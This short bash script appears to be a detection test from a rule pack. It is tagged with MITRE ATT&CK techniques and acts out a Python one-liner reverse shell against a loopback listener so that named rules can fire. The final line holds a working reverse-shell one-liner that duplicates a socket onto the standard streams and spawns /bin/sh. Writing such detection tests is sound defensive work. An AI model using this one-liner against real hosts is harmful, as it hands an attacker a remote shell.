#!/usr/bin/env bash
# technique: T1059.006 Command and Scripting Interpreter: Python
# technique: T1059.004 Command and Scripting Interpreter: Unix Shell
# technique: T1095 Non-Application Layer Protocol
# rules: vigil_reverse_shell_commandline vigil_network_client_spawns_shell vigil_python_inline_fetch_or_decode_exec
# Acts out: the Python one-liner reverse shell (connect, dup2 the socket onto 0/1/2,
# pty.spawn a shell) to a loopback listener that sends one harmless command and `exit`.
source lib/common.sh
listen_once 'echo vigil-rulepack pty shell\nexit\n'
timeout 20 "$PY" -c "import socket,os,pty;s=socket.create_connection(('127.0.0.1',$PORT));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')" || true
